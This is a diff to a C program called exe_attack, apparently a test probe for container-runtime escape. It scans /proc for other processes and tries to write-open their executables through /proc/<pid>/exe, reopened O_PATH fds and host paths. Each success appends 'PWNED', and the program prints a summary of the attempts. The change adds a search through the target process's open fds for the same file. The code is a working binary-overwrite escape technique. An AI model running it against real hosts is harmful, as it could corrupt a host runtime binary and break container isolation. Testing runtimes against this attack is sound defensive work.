@@ -5,10 +5,11 @@
  *   - opens /proc/<pid>/exe O_WRONLY (the direct overwrite);
  *   - keeps an O_PATH fd of it, and retries each kept fd as /proc/self/fd/N with O_WRONLY on
  *     every round (the reopen after the runtime has left, when nothing executes it any more);
+ *   - keeps an O_PATH fd of any fd of that process that is the same file;
  *   - with a HOSTPATH argument, also O_PATH-opens /proc/<pid>/root/HOSTPATH (the runtime's
  *     binary reached through a root that is still the host's).
  * A write-open that succeeds appends "PWNED" to the file. An open of a write-sealed memfd is
- * counted apart (writes to it fail: nothing to overwrite). Prints one summary line:
+ * counted apart (writes to it fail: nothing to overwrite). Prints "started", then at the end:
  *   seen=N opened=N sealed=N held=N wins=<how the binary was written> errors=<errno names of
  *   failed write-opens> targets=<exe links>
  * Usage: exe_attack STOPFILE [HOSTPATH] */
@@ -115,6 +116,25 @@ int main(int argc, char **argv) {
             else failed();
             fd = open(path, O_PATH | O_CLOEXEC);
             if (fd >= 0) hold(fd, me.st_dev, me.st_ino);
+            /* Any fd of that process that is the same file (dev, ino) as a kept one. */
+            snprintf(path, sizeof path, "/proc/%s/fd", e->d_name);
+            DIR *fds = opendir(path);
+            struct dirent *f;
+            while (fds && (f = readdir(fds))) {
+                if (f->d_name[0] == '.') continue;
+                snprintf(path, sizeof path, "/proc/%s/fd/%s", e->d_name, f->d_name);
+                if (stat(path, &st) != 0) continue;
+                for (int i = 0; i < nheld; i++)
+                    if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
+                        fd = open(path, O_PATH | O_CLOEXEC);
+                        if (fd >= 0) {
+                            note(targets, sizeof targets, "fd-reached");
+                            hold(fd, me.st_dev, me.st_ino);
+                        }
+                        break;
+                    }
+            }
+            if (fds) closedir(fds);
             if (hostpath) {
                 snprintf(path, sizeof path, "/proc/%s/root%s", e->d_name, hostpath);
                 fd = open(path, O_PATH | O_CLOEXEC);
